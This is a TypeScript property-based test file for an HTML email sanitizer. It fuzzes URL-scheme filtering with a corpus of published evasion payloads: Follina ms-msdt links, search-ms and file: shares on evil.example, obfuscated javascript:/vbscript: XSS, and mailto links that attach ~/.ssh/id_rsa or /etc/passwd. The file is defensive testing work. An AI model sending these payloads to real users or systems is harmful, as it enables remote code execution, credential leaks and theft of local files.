import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from '../../../lambdas/domain/send/html-sanitizer.ts';

// DESIGN §4 "content safety": a link or image keeps only http, https, mailto, tel or cid (and a
// raster data: image in <img src>), however its scheme is encoded, and what is written back has
// nothing left to decode. The oracle below is the test's own: it reads every URL attribute of the
// output as a browser would (one decoding, tabs and newlines dropped, WHATWG URL parser) and as a
// careless client would (decoding again and again, any case, `;` optional, all whitespace and
// controls dropped), and neither may find another scheme.
//
// Runs: 4,000 cases in `npm test`, split over the two properties; BATON_FUZZ_RUNS scales them as
// it scales the API fuzz suite (its default is 10,500; the soak sets 100,000). A failure prints
// fast-check's seed and path.

const TOTAL_RUNS = Math.ceil((4_000 * Number(process.env.BATON_FUZZ_RUNS ?? 10_500)) / 10_500);
const REFUSE_RUNS = Math.ceil(TOTAL_RUNS * 0.75);
const KEEP_RUNS = Math.ceil(TOTAL_RUNS * 0.25);

const ALLOWED = new Set(['http', 'https', 'mailto', 'tel', 'cid']);
const URL_ATTRIBUTE = /\s(href|src|background|cite|usemap)="([^"]*)"/g;

/** Published evasion vectors (OWASP filter evasion cheat sheet style, Follina, search-ms), written as test data. */
const CORPUS: readonly (readonly [string, string])[] = [
  ['Follina with a nested &#38;', '<a href="ms-msdt&#38;#58;/id PCWDiagnostic /skip force">x</a>'],
  ['Follina with &amp;colon;', '<a href="ms-msdt&amp;colon;/id PCWDiagnostic">x</a>'],
  ['Follina with a double-nested &#38;', '<a href="ms-msdt&#38;#38;#58;/id PCWDiagnostic">x</a>'],
  ['Follina with a hex colon', '<a href="ms-msdt&#x3A;/id PCWDiagnostic">x</a>'],
  ['Follina, plain', '<a href="ms-msdt:/id PCWDiagnostic /skip force /param">x</a>'],
  [
    'search-ms to a share',
    '<a href="search-ms&#38;#58;query=invoice&crumb=location:\\\\evil.example\\s">x</a>',
  ],
  ['search: to a share', '<a href="search:query=x&crumb=location:\\\\evil.example\\s">x</a>'],
  ['file: with a nested colon', '<a href="file&#38;#58;//evil.example/share/invoice.lnk">x</a>'],
  ['file: with an upper-case hex entity', '<a href="FILE&#X3A;///C:/Windows/System32/calc.exe">x</a>'],
  ['a UNC path', '<a href="\\\\evil.example\\share\\x.lnk">x</a>'],
  ['a mixed-slash network path', '<a href="/\\evil.example/share">x</a>'],
  ['a protocol-relative share', '<img src="//evil.example/share/pixel.png">'],
  [
    'data:text/html with a nested colon',
    '<a href="data&#38;#58;text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
  ],
  ['data:text/html in an image', '<img src="data:text/html;base64,PHNjcmlwdD4=">'],
  ['a data: image outside <img src>', '<a href="data:image/png;base64,iVBORw0KGgo=">x</a>'],
  ['data: with a tab in the scheme', '<a href="da&#9;ta:text/html,x">x</a>'],
  ['javascript with a nested &amp;Tab;', '<a href="java&amp;Tab;script:alert(1)">x</a>'],
  ['javascript with &#38;#x09;', '<a href="jav&#38;#x09;ascript:alert(1)">x</a>'],
  ['javascript with a named colon without ;', '<a href="javascript&colon alert(1)">x</a>'],
  ['javascript with an upper-case named colon', '<a href="javascript&COLON;alert(1)">x</a>'],
  ['javascript with a zero-width space', '<a href="java\u200Bscript:alert(1)">x</a>'],
  ['javascript with a NUL entity', '<a href="java&#0;script:alert(1)">x</a>'],
  ['javascript with a vertical tab', '<a href="java\u000Bscript:alert(1)">x</a>'],
  ['javascript with a C1 control entity', '<a href="java&#x85;script:alert(1)">x</a>'],
  ['javascript with padded decimal and no ;', '<a href="&#0000106avascript&#0000058alert(1)">x</a>'],
  ['javascript in full-width letters', '<a href="ｊａｖａｓｃｒｉｐｔ：alert(1)">x</a>'],
  [
    'vbscript in a table background',
    '<table background="vbscript&#38;#58;msgbox(1)"><tr><td>x</td></tr></table>',
  ],
  [
    'ms-word in a blockquote cite',
    '<blockquote cite="ms-word&#58;ofe|u|https://evil.example/x.docx">q</blockquote>',
  ],
  ['ms-excel in an area', '<map name="m"><area href="ms-excel:ofv|u|https://evil.example/x.xlsx"></map>'],
  ['ms-officecmd', '<a href="ms-officecmd&#x3a;{&quot;id&quot;:1}">x</a>'],
  ['ms-appinstaller', '<a href="ms-appinstaller:?source=https://evil.example/x.msix">x</a>'],
  ['ms-its', '<a href="ms-its:mhtml:file://C:\\x.mht!https://evil.example/x.chm::/x.html">x</a>'],
  ['mhtml', '<a href="mhtml:https://evil.example/x.mht">x</a>'],
  ['smb', '<a href="smb://evil.example/share">x</a>'],
  ['sms (not on the allowlist)', '<a href="sms:+15550100?body=x">x</a>'],
  ['view-source', '<a href="view-source:https://evil.example/">x</a>'],
  ['intent', '<a href="intent://evil.example#Intent;scheme=https;end">x</a>'],
  ['a scheme nested past any real URL', `<a href="ms-msdt${'&#38;#38;'.repeat(12)}#58;/id">x</a>`],
];

/** Decodes references like a careless client: any case, `;` optional, a name's prefix enough. */
const ORACLE_NAMES: Readonly<Record<string, string>> = {
  colon: ':',
  tab: '\t',
  newline: '\n',
  sol: '/',
  period: '.',
  plus: '+',
  amp: '&',
  quot: '"',
  lt: '<',
  gt: '>',
  bsol: '\\',
};

function oracleDecode(value: string, strict: boolean): string {
  return value.replace(/&#(x[0-9a-f]+|\d+)(;?)|&([a-z]+)(;?)/gi, (match, num, _s, name: string, semi) => {
    if (num !== undefined) {
      const n = num[0] === 'x' || num[0] === 'X' ? Number.parseInt(num.slice(1), 16) : Number(num);
      return n > 0 && n <= 0x10ffff && (n < 0xd800 || n > 0xdfff) ? String.fromCodePoint(n) : '\uFFFD';
    }
    if (strict) {
      if (semi !== ';' || !['amp', 'lt', 'gt', 'quot'].includes(name)) return match;
      return ORACLE_NAMES[name] ?? match;
    }
    const key = Object.keys(ORACLE_NAMES).find((k) => name.toLowerCase().startsWith(k));
    return key === undefined ? match : `${ORACLE_NAMES[key]}${name.slice(key.length)}${semi}`;
  });
}

/** Where a decoded value leads, or `undefined` when no browser or client would follow it anywhere. */
function schemesSeen(tag: string, name: string, written: string): string[] {
  const seen: string[] = [];
  // A browser: the attribute decoded once (the sanitizer writes only &amp; &quot; &lt; &gt;).
  const once = oracleDecode(written, true);
  try {
    const url = new URL(once, 'https://base.example/');
    seen.push(url.protocol === 'data:' ? `data:${url.pathname.slice(0, 10)}` : url.protocol.slice(0, -1));
  } catch {
    // Not a URL: nothing to follow.
  }
  // A careless client: decoding five more times, dropping whitespace and controls.
  let value = once;
  for (let depth = 0; depth < 6; depth++) {
    const compact = value
      .normalize('NFKC')
      .replace(/[\s\p{Cc}\p{Cf}]/gu, '')
      .toLowerCase();
    if (/^[/\\]{2}/.test(compact)) seen.push('network-path');
    const scheme = /^([^:/?#\\]*):/.exec(compact);
    if (scheme) seen.push(scheme[1] === 'data' ? `data:${compact.slice(5, 15)}` : (scheme[1] ?? ''));
    value = oracleDecode(value, false);
  }
  return seen.filter((s) => !isAllowed(tag, name, s));
}

function isAllowed(tag: string, name: string, scheme: string): boolean {
  if (ALLOWED.has(scheme)) return true;
  return tag === 'img' && name === 'src' && /^data:image\/(?!svg)/.test(scheme);
}

/** Every URL attribute of the sanitized output with the schemes it could lead to that are not allowed. */
function forbiddenSchemes(clean: string): string[] {
  const found: string[] = [];
  for (const tag of clean.matchAll(/<([a-z]+)([^>]*)>/g)) {
    for (const attr of (tag[2] ?? '').matchAll(URL_ATTRIBUTE)) {
      found.push(...schemesSeen(tag[1] ?? '', attr[1] ?? '', attr[2] ?? '').map((s) => `${attr[0]} → ${s}`));
    }
  }
  return found;
}

// ---------------------------------------------------------------------------------------------
// The entity-encoding mutator

const NAMED: Readonly<Record<string, readonly string[]>> = {
  ':': ['colon'],
  '/': ['sol'],
  '.': ['period'],
  '+': ['plus'],
};

/**
 * One character as a browser would still read it: raw in either case, decimal, hex or named (in
 * any case too, unless `exactNames`: HTML reads only the lower-case names).
 */
function encodedChar(c: string, exactNames: boolean): fc.Arbitrary<string> {
  const code = c.codePointAt(0) ?? 0;
  const options: fc.Arbitrary<string>[] = [
    fc.constantFrom(c, c.toUpperCase(), c.toLowerCase()),
    fc
      .tuple(fc.nat(4), fc.boolean())
      .map(([zeros, semi]) => `&#${'0'.repeat(zeros)}${code}${semi ? ';' : ''}`),
    fc.tuple(fc.constantFrom('x', 'X'), fc.boolean(), fc.boolean()).map(([x, upper, semi]) => {
      const hex = code.toString(16);
      return `&#${x}${upper ? hex.toUpperCase() : hex}${semi ? ';' : ''}`;
    }),
  ];
  const names = NAMED[c];
  if (names)
    options.push(
      fc
        .tuple(fc.constantFrom(...names), fc.boolean())
        .map(([n, up]) => `&${up && !exactNames ? n.toUpperCase() : n};`),
    );
  return fc.oneof(...options);
}

/** Wraps a reference in 0-3 more layers: `&` as `&#38;`, `&#x26;` or `&amp;`. */
function nested(encoded: string): fc.Arbitrary<string> {
  if (!encoded.startsWith('&')) return fc.constant(encoded);
  return fc
    .array(fc.constantFrom('&#38;', '&#x26;', '&amp;', '&AMP;'), { maxLength: 3 })
    .map((layers) => layers.reduce((text, amp) => `${amp}${text.slice(1)}`, encoded));
}

/** Tabs, newlines, NUL and other controls (raw or as references) and invisible characters, between letters. */
const FILLER = fc.constantFrom(
  '',
  '',
  '',
  '\t',
  '\n',
  '\r',
  '\u0000',
  '\u0001',
  '\u001f',
  '&Tab;',
  '&NewLine;',
  '&#9;',
  '&#x0A;',
  '&#13;',
  '&#0;',
  '&#38;#9;',
  '\u200B',
  '\u00AD',
);

/**
 * `scheme:rest` with every letter of the scheme and its colon re-encoded and padded; a reference
 * without `;` gets one when the next character could extend its number.
 */
function mutated(
  target: string,
  filler: fc.Arbitrary<string> = FILLER,
  exactNames = false,
): fc.Arbitrary<string> {
  const colon = target.indexOf(':');
  const head = [...target.slice(0, colon + 1)];
  const rest = target.slice(colon + 1);
  return fc
    .tuple(
      fc.constantFrom('', ' ', '  \t', '\u0001'),
      fc.tuple(...head.map((c) => fc.tuple(encodedChar(c, exactNames).chain(nested), filler))),
    )
    .map(([lead, parts]) => {
      let out = lead;
      const pieces: string[] = parts.flat();
      pieces.push(rest);
      pieces.forEach((piece, i) => {
        const next = pieces.slice(i + 1).join('');
        const open = /#(x[0-9a-f]+|\d+)$/i.exec(piece);
        // A next reference may decode to a digit, once the layers around this one are gone.
        const digit = open?.[1]?.startsWith('x') || open?.[1]?.startsWith('X') ? /^[&0-9a-f]/i : /^[&\d]/;
        const extends_ = open !== null && digit.test(next);
        out += extends_ ? `${piece};` : piece;
      });
      return out;
    });
}

const DANGEROUS = [
  'ms-msdt:/id PCWDiagnostic /skip force /param IT_RebrowseForFile=?',
  'search-ms:query=invoice&crumb=location:\\\\evil.example\\share',
  'file://evil.example/share/invoice.pdf.lnk',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'javascript:alert(1)',
  'vbscript:msgbox(1)',
  'ms-word:ofe|u|https://evil.example/x.docx',
  'ms-appinstaller:?source=https://evil.example/x.msix',
  'search:query=x',
  'sms:+15550100',
];

const SAFE = [
  'https://shop.example.com/orders/1?a=1&amp;b=2#top',
  'http://shop.example.com/',
  'mailto:support@shop.example.com?subject=Order',
  'tel:+15550100',
  'cid:logo@shop',
];

const PLACES = [
  ['a', 'href'],
  ['img', 'src'],
  ['area', 'href'],
  ['table', 'background'],
  ['blockquote', 'cite'],
] as const;

function html(tag: string, attr: string, value: string): string {
  return `<${tag} ${attr}="${value}">x</${tag}>`;
}

describe('URL schemes in HTML', () => {
  it.each(CORPUS)('refuses %s', (_what, vector) => {
    // Prepare / Act
    const clean = sanitizeHtml(vector);

    // Assess
    expect(forbiddenSchemes(clean)).toEqual([]);
    expect(clean).not.toMatch(/&#|&(?!amp;|quot;|lt;|gt;)/);
  });

  it.each([
    [
      'a file: background in a style attribute',
      '<td style="color:red;background:url(file://evil.example/s/x.png)">x</td>',
      '<td style="color:red;">x</td>',
    ],
    [
      'a UNC background',
      '<td style="background-image:url(\'\\\\evil.example\\s\\x.png\')">x</td>',
      '<td>x</td>',
    ],
    [
      'a network-path background',
      '<div style="background:url(//evil.example/x.png)">x</div>',
      '<div>x</div>',
    ],
    [
      'an ms-msdt url() in CSS escapes',
      '<div style="background:url(ms\\2d msdt\\3a/id)">x</div>',
      '<div>x</div>',
    ],
    [
      'a file: url() in a style block',
      '<style>td{background:url("file://evil.example/x")}</style>',
      '<style>td{}</style>',
    ],
    [
      'a file: image-set()',
      '<div style="background-image:image-set(\'file://evil.example/x.png\' 1x)">x</div>',
      '<div>x</div>',
    ],
    [
      'a file: url() inside image-set()',
      '<div style="color:red;background-image:image-set(url(file://evil.example/x.png) 1x)">x</div>',
      '<div style="color:red;">x</div>',
    ],
    [
      'a file: url() inside -webkit-image-set()',
      '<div style="background-image:-webkit-image-set(url(file://evil.example/x.png) 1x)">x</div>',
      '<div>x</div>',
    ],
    [
      'a file: string after a url() in image-set()',
      '<div style="background-image:image-set(url(https://cdn.example.com/a.png) 1x, \'file://evil.example/x.png\' 2x)">x</div>',
      '<div>x</div>',
    ],
    [
      'a custom property that image-set() reads',
      '<div style="--u:\'file://evil.example/x.png\';background-image:image-set(var(--u) 1x)">x</div>',
      '<div style="--u:\'file://evil.example/x.png\';">x</div>',
    ],
    [
      'a file: src() string',
      '<div style="background-image:src(\'file://evil.example/x.png\')">x</div>',
      '<div>x</div>',
    ],
    [
      'an SVG data: url()',
      '<div style="background:url(data:image/svg+xml,%3Csvg%3E)">x</div>',
      '<div>x</div>',
    ],
  ])('drops the CSS declaration that loads %s', (_what, html, expected) => {
    // Prepare / Act
    const clean = sanitizeHtml(html);

    // Assess
    expect(clean).toBe(expected);
  });

  it.each([
    ['an https background', '<td style="background:url(https://cdn.example.com/bg.png) no-repeat">x</td>'],
    ['a cid: background', '<td style="background-image:url(\'cid:bg@shop\')">x</td>'],
    ['a raster data: background', '<td style="background:url(data:image/png;base64,iVBORw0KGgo=)">x</td>'],
    ['a relative background', '<td style="background:url(img/bg.png)">x</td>'],
    [
      'an https image-set() with url() and strings',
      '<td style="background-image:image-set(url(https://cdn.example.com/a.png) 1x, \'https://cdn.example.com/b.png\' 2x)">x</td>',
    ],
  ])('keeps %s in CSS', (_what, html) => {
    // Prepare / Act
    const clean = sanitizeHtml(html);

    // Assess
    expect(clean).toBe(html);
  });

  it('writes a kept URL fully decoded and escaped, so a second decoding changes nothing', () => {
    // Prepare / Act
    const clean = sanitizeHtml('<a href="https&#38;#58;//shop.example.com/?a=1&amp;amp;b=2&quot;">x</a>');

    // Assess
    expect(clean).toBe('<a href="https://shop.example.com/?a=1&amp;b=2&quot;">x</a>');
  });

  it.each([
    ['attach', '<a href="mailto:it@example.com?attach=/home/ana/.ssh/id_rsa">x</a>'],
    ['attachment', '<a href="mailto:?subject=hi&amp;attachment=file:///etc/passwd">x</a>'],
    [
      'a percent-encoded attach',
      '<a href="MAILTO:it@example.com?body=x&amp;%61TTACH=~/.gnupg/secring.gpg">x</a>',
    ],
    ['an entity-encoded attach', '<a href="mailto:it@example.com?&#97;ttach=C:/Users/ana/key.pem">x</a>'],
  ])(
    'refuses a mailto: link with %s, which some clients turn into a local file attached to the reply',
    (_what, vector) => {
      // Prepare / Act
      const clean = sanitizeHtml(vector);

      // Assess
      expect(clean).toBe('<a>x</a>');
    },
  );

  it('keeps a mailto: link with the usual fields', () => {
    // Prepare
    const link =
      '<a href="mailto:it@example.com?cc=b@example.com&amp;bcc=c@example.com&amp;subject=Hi&amp;body=A%20b&amp;In-Reply-To=%3Cx@example.com%3E">x</a>';

    // Act
    const clean = sanitizeHtml(link);

    // Assess
    expect(clean).toBe(link);
  });

  it('refuses every encoding of a scheme that is not on the allowlist, at any decoding depth', () => {
    // Prepare
    const cases = fc
      .tuple(fc.constantFrom(...DANGEROUS), fc.constantFrom(...PLACES))
      .chain(([target, [tag, attr]]) => mutated(target).map((value) => ({ tag, attr, value })));

    // Act / Assess
    fc.assert(
      fc.property(cases, ({ tag, attr, value }) => {
        const clean = sanitizeHtml(html(tag, attr, value));
        expect(forbiddenSchemes(clean)).toEqual([]);
      }),
      { numRuns: REFUSE_RUNS },
    );
  });

  it('keeps every encoding of an allowed URL that a browser reads as that URL', () => {
    // Prepare: only what a browser drops inside a scheme (tabs, newlines; raw or as references).
    const filler = fc.constantFrom(
      '',
      '',
      '\t',
      '\n',
      '\r',
      '&Tab;',
      '&NewLine;',
      '&#9;',
      '&#x0A;',
      '&#13;',
      '&#38;#9;',
    );
    const cases = fc
      .tuple(fc.constantFrom(...SAFE), fc.constantFrom(...PLACES))
      .chain(([target, [tag, attr]]) =>
        mutated(target, filler, true).map((value) => ({ tag, attr, target, value })),
      );

    // Act / Assess
    fc.assert(
      fc.property(cases, ({ tag, attr, target, value }) => {
        const clean = sanitizeHtml(html(tag, attr, value));
        const written = new RegExp(` ${attr}="([^"]*)"`).exec(clean)?.[1];
        expect(written, clean).toBeDefined();
        const read = oracleDecode(written ?? '', true);
        expect(new URL(read).href).toBe(new URL(oracleDecode(target, true)).href);
      }),
      { numRuns: KEEP_RUNS },
    );
  });
});

console.info(
  `html URL scheme fuzz: ${REFUSE_RUNS + KEEP_RUNS} cases and ${CORPUS.length} corpus vectors (BATON_FUZZ_RUNS)`,
);
